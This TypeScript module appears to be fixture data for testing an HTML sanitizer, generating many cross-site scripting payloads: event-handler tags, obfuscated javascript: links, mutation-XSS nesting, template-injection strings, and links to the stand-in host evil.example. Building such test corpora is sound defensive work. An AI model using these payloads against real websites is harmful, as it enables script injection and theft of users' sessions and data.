/** Each text tries to run a script that calls `xss()`: combinations of tricks that have bypassed filters. */
const CALLS = [
  'xss()',
  'xss&lpar;&rpar;',
  '&#120;ss()',
  'top["x"+"ss"]()',
  "eval('xss()')",
  'Function("xss()")()',
];

const TAGS_WITH_EVENTS = [
  (call: string) => `<img src=x onerror="${call}">`,
  (call: string) => `<img src=x onerror=${call.replaceAll('"', "'")}>`,
  (call: string) => `<svg onload="${call}">`,
  (call: string) => `<svg/onload="${call}"/>`,
  (call: string) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call: string) => `<body onload="${call}">`,
  (call: string) => `<details open ontoggle="${call}"><summary>x</summary></details>`,
  (call: string) => `<input autofocus onfocus="${call}">`,
  (call: string) => `<video src=x onerror="${call}"></video>`,
  (call: string) => `<audio src=x onerror="${call}"></audio>`,
  (call: string) => `<video><source onerror="${call}"></video>`,
  (call: string) => `<marquee onstart="${call}">x</marquee>`,
  (call: string) => `<iframe src=x onload="${call}"></iframe>`,
  (call: string) => `<object data=x onerror="${call}"></object>`,
  (call: string) => `<link rel=stylesheet href=x onerror="${call}">`,
  (call: string) => `<style onload="${call}">a{}</style>`,
  (call: string) => `<b onmouseover="${call}" style="position:fixed;inset:0">x</b>`,
  (call: string) => `<a href="#" onclick="${call}" onfocus="${call}" autofocus tabindex=1>x</a>`,
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call: string) => `<script src="data:text/javascript,${call}"></script>`,
  (call: string) =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${call}"></style></mglyph></table></mtext></math>`,
  (call: string) => `<noscript><p title="</noscript><img src=x onerror='${call.replaceAll("'", '"')}'>">`,
  (call: string) => `<template><img src=x onerror="${call}"></template>`,
  (call: string) => `<svg><style><img src=x onerror="${call}"></style></svg>`,
  (call: string) => `<svg><foreignObject><img src=x onerror="${call}"></foreignObject></svg>`,
  (call: string) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call: string) => `<isindex type=image src=x onerror="${call}">`,
  (call: string) => `<textarea><img src=x onerror="${call}"></textarea>`,
  (call: string) => `<xmp><img src=x onerror="${call}"></xmp>`,
];

const LINKS = [
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  ' javascript:xss()',
  'java\nscript:xss()',
  'java\tscript:xss()',
  '&#106;avascript:xss()',
  '&#x6A;&#x61;vascript:xss()',
  'javascript&colon;xss()',
  'vbscript:xss()',
  'data:text/html,<script>parent.xss()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=',
  '//evil.example/x.js',
  'feed:javascript:xss()',
];

const ELSEWHERE = [
  '</script><script>xss()</script>',
  '<!--><script>xss()</script>-->',
  '<![CDATA[><script>xss()</script>]]>',
  '"><script>xss()</script>',
  "'><img src=x onerror=xss()>",
  '\u2028xss()\u2029',
  '{{constructor.constructor("xss()")()}}',
  '${xss()}',
  '<%= xss() %>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
  '<p style="background:url(javascript:xss())">x</p>',
  '<div style="animation-name:x" onanimationstart="xss()">x</div>',
];

export const hostileTexts: readonly string[] = [
  ...TAGS_WITH_EVENTS.flatMap((tag) => CALLS.map(tag)),
  ...LINKS.flatMap((link) => [
    `<a href="${link}">x</a>`,
    `<iframe src="${link}"></iframe>`,
    `<object data="${link}"></object>`,
    `<svg><a xlink:href="${link}"><text>x</text></a></svg>`,
  ]),
  ...ELSEWHERE,
];
